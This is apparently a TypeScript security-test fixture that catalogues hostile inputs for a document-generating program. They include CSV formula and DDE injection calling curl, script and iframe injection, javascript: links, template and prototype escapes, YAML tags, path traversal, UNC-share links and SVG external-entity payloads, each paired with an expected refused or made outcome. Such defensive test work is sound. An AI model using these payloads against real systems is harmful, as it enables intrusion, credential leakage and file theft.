/** What a hostile file may say: one line in a file of a report that is otherwise in order. */
export interface Vector {
  readonly name: string;
  readonly in: 'csv' | 'markdown' | 'front matter' | 'template' | 'settings' | 'logo';
  /** What stands in the file; for front matter and settings, a line. */
  readonly text: string;
  /** Whether documents are made (of it as plain text, or as a link that nobody follows) or it is refused. */
  readonly outcome: 'made' | 'refused';
}

const SVG =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20"';
const svg = (inside: string, attributes = '', before = ''): string =>
  `${before}<svg ${SVG}${attributes}>${inside}<rect width="40" height="20" fill="#1d6f8a"/></svg>`;

/**
 * Every way that is known to us of making a program that reads files, prints web pages and writes Word fetch something from
 * `url`, read the file `canary`, or run a script that puts two halves together and writes KÖRDES.
 */
export function vectors(url: string, canary: string): Vector[] {
  const file = `file://${canary}`;
  const csv = (name: string, text: string): Vector => ({ name, in: 'csv', text, outcome: 'made' });
  const markdown = (name: string, text: string, outcome: Vector['outcome'] = 'refused'): Vector => ({
    name,
    in: 'markdown',
    text,
    outcome,
  });
  const matter = (name: string, text: string, outcome: Vector['outcome'] = 'refused'): Vector => ({
    name,
    in: 'front matter',
    text,
    outcome,
  });
  const template = (name: string, text: string, outcome: Vector['outcome'] = 'refused'): Vector => ({
    name,
    in: 'template',
    text,
    outcome,
  });
  const settings = (name: string, text: string): Vector => ({
    name,
    in: 'settings',
    text,
    outcome: 'refused',
  });
  const logo = (name: string, text: string): Vector => ({ name, in: 'logo', text, outcome: 'refused' });
  return [
    csv('HYPERLINK', `=HYPERLINK("${url}/a","klicka")`),
    csv('WEBSERVICE', `=WEBSERVICE("${url}/a")`),
    csv('IMPORTXML', `=IMPORTXML("${url}/a","//b")`),
    csv('DDE', `+cmd|' /C curl ${url}'!A0`),
    csv('SUM of another file', `@SUM('${file}'#$A.A1)`),
    csv('tab and carriage return before a formula', `\t=1+1`),
    csv('img', `<img src="${url}/a.png" onerror="document.write('KÖR'+'DES')">`),
    csv('script', `<script src="${url}/a.js">document.write('KÖR'+'DES')</script>`),
    csv('end of cell and iframe', `</td></table><iframe src="${file}"></iframe>`),
    csv('end of the style', `</style><link rel="stylesheet" href="${url}/a.css">`),
    csv('a field of Word', `{ INCLUDEPICTURE "${url}/a.png" \\d }`),
    csv('Word’s own XML', `</w:t><w:instrText>INCLUDETEXT "${canary}"</w:instrText><w:t>`),
    csv('a template’s expression', `{{> ../../hemligt}} {{{titel}}}`),
    csv('Markdown', `![bild](${url}/a.png) [a](javascript:document.write('KÖR'+'DES'))`),

    markdown('picture', `![bild](${url}/a.png)`),
    markdown('picture by reference', `![bild][1]\n\n[1]: ${url}/a.png`),
    markdown('picture from a file', `![bild](${file})`),
    markdown('img', `Text <img src="${url}/a.png"> mer`),
    markdown('script', `<script src="${url}/a.js"></script>`),
    markdown('iframe', `<iframe src="${file}"></iframe>`),
    markdown('style', `<style>@import "${url}/a.css";</style>`),
    markdown('event handler', `<b onmouseover="document.write('KÖR'+'DES')">b</b>`),
    markdown('link to a script', `[a](javascript:document.write('KÖR'+'DES'))`),
    markdown('link to a script, disguised', `[a](java&#115;cript:document.write('KÖR'+'DES'))`),
    markdown('link to data', `[a](data:text/html,<script>document.write('KÖR'+'DES')</script>)`),
    markdown('link to a file', `[a](${file})`),
    markdown('link to a share, which gives a password away', `[a](\\\\\\\\127.0.0.1\\\\a)`),
    markdown('link without a protocol', `[a](//127.0.0.1/a)`),
    markdown('link to the net', `Läs mer hos [kommunen](${url}/a).`, 'made'),
    markdown('address between brackets', `<${url}/a>`, 'made'),
    markdown('another part', `{{> ../../hemligt}}`),
    markdown('three braces', `{{{titel}}}`),
    markdown('a helper’s insides', `{{constructor "x"}}`),
    markdown('code', `\`\`\`\n<script src="${url}"></script>\n\`\`\``),

    matter('a title of markup', `titel: '<img src="${url}/a.png" onerror="document.write(1)">'`, 'made'),
    matter('a title that ends the page', `titel: '</title><script src="${url}/a.js"></script>'`, 'made'),
    matter('a title of CSS', `titel: 'x"; background: url(${url}/a.png); content: "'`, 'made'),
    matter('a registry number of a Word field', `dnr: 'INCLUDETEXT "${canary}"'`, 'made'),
    matter('a tag of YAML', `titel: !!js/function 'function () { return 1 }'`),
    matter('an included file', `titel: !include ${canary}`),
    matter('an alias', `titel: *alla`),
    matter('a template elsewhere', `mall: ../../hemligt`),
    matter('a template by its address', `mall: ${url}/mall`),

    template('img', `<p><img src="${url}/a.png"></p>`),
    template('script', `<script src="${url}/a.js"></script>`),
    template('link', `<link rel="stylesheet" href="${url}/a.css">`),
    template('meta refresh', `<meta http-equiv="refresh" content="0; url=${url}/a">`),
    template('base', `<base href="${url}">`),
    template('iframe', `<iframe src="${file}"></iframe>`),
    template('object', `<object data="${file}"></object>`),
    template('svg', `<svg><image href="${url}/a.png"/></svg>`),
    template('style', `<style>body { background: url(${url}/a.png) }</style>`),
    template('a style of its own', `<p style="background: url(${url}/a.png)">Text</p>`),
    template('event handler', `<p onclick="document.write('KÖR'+'DES')">Text</p>`),
    template('link to a file', `<p><a href="${file}">a</a></p>`),
    template('link to a script', `<p><a href="javascript:document.write('KÖR'+'DES')">a</a></p>`),
    template('comment of a browser', `<!--[if IE]><script src="${url}"></script><![endif]-->`),
    template('three braces', '<p>{{{titel}}}</p>'),
    template('another part', '{{> ../../hemligt}}'),
    template('a part by a name in the data', '{{> (lookup . "titel")}}'),
    template('the insides of a text', '<p>{{titel.constructor.constructor}}</p>'),
    template('the prototype', '<p>{{__proto__}} {{constructor}}</p>'),
    template('a block with other names', '{{#with titel}}<p>{{constructor}}</p>{{/with}}'),

    settings('a source elsewhere', `  risker: { fil: ../../../../..${canary} }`),
    settings('a source by its path', `  risker: { fil: ${canary} }`),
    settings('a source by its address', `  risker: { fil: "${url}/a.csv" }`),
    settings('a source on a share', `  risker: { fil: '\\\\127.0.0.1\\a\\b.csv' }`),

    logo('picture in the picture', svg(`<image href="${url}/a.png" width="9" height="9"/>`)),
    logo('picture in the picture, as it was written before', svg(`<image xlink:href="${url}/a.png"/>`)),
    logo('file in the picture', svg(`<image href="${file}" width="9" height="9"/>`)),
    logo('part of another picture', svg(`<use href="${url}/b.svg#c"/>`)),
    logo('style from elsewhere', svg(`<style>@import url("${url}/a.css");</style>`)),
    logo('colour from elsewhere', svg(`<rect width="9" height="9" fill="url(${url}/a.svg#b)"/>`)),
    logo('filter from elsewhere', svg(`<filter id="f"><feImage href="${url}/a.png"/></filter>`)),
    logo('script', svg(`<script>document.write('KÖR'+'DES'); fetch("${url}/a")</script>`)),
    logo('event handler', svg('', ` onload="fetch('${url}/a')"`)),
    logo('page in the picture', svg(`<foreignObject><iframe src="${file}"/></foreignObject>`)),
    logo(
      'entity of a file',
      svg('<text>&hemligt;</text>', '', `<!DOCTYPE svg [<!ENTITY hemligt SYSTEM "${file}">]>`),
    ),
    logo('style sheet of the file', svg('', '', `<?xml-stylesheet href="${url}/a.css"?>`)),
    logo(
      'animated address',
      svg(`<a><set attributeName="href" to="${url}/a"/><rect width="9" height="9"/></a>`),
    ),
    logo('no picture at all', `<!DOCTYPE html><script src="${url}/a.js"></script>`),
  ];
}
